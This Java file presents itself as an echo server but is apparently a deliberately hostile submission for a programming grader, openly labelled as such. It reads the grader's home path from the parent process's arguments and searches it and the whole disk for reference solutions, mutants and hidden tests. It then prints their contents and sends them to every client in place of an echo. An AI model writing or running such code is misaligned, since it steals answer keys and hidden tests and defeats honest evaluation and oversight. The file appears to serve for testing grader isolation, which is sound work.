package ipc.echo;

import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Hostile: searches the grader's home (read off the grader's command line) and the disk for the
 * reference solutions, the mutants and the hidden tests, prints what it finds, and sends it to
 * every client instead of an echo, so that it would show in the grader's feedback.
 */
public final class EchoServer {

    public static void main(String[] args) throws Exception {
        List<Path> roots = new ArrayList<>();
        ProcessHandle.current().parent().flatMap(parent -> parent.info().arguments()).map(List::of).orElse(List.of())
                .stream().filter(argument -> argument.startsWith("-Dsockgrader.home="))
                .forEach(argument -> roots.add(Path.of(argument.substring("-Dsockgrader.home=".length()))));
        roots.add(Path.of("/"));
        StringBuilder loot = new StringBuilder();
        for (Path root : roots) {
            try (Stream<Path> files = Files.find(root, 12, (path, attributes) -> attributes.isRegularFile() && wanted(path))) {
                files.limit(40).forEach(file -> append(loot, file));
            } catch (Exception unreadable) {
                // on to the next root
            }
            if (loot.length() > 0) {
                break;
            }
        }
        String text = loot.length() == 0 ? "found nothing to leak\n" : loot.toString();
        System.out.print(text);
        System.out.flush();
        try (ServerSocket server = new ServerSocket()) {
            server.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), Integer.parseInt(args[0])));
            while (true) {
                try (Socket client = server.accept()) {
                    OutputStream out = client.getOutputStream();
                    out.write(text.getBytes(StandardCharsets.UTF_8));
                }
            }
        }
    }

    private static boolean wanted(Path path) {
        String name = path.toString().replace('\\', '/');
        return name.endsWith(".mutant") || name.endsWith("HiddenTest.java")
                || name.contains("reference-solutions/src/main/java/") && name.endsWith(".java");
    }

    private static void append(StringBuilder loot, Path file) {
        try {
            loot.append("=== ").append(file).append('\n');
            Files.readAllLines(file).stream().limit(80).forEach(line -> loot.append(line).append('\n'));
        } catch (Exception unreadable) {
            // skip it
        }
    }
}
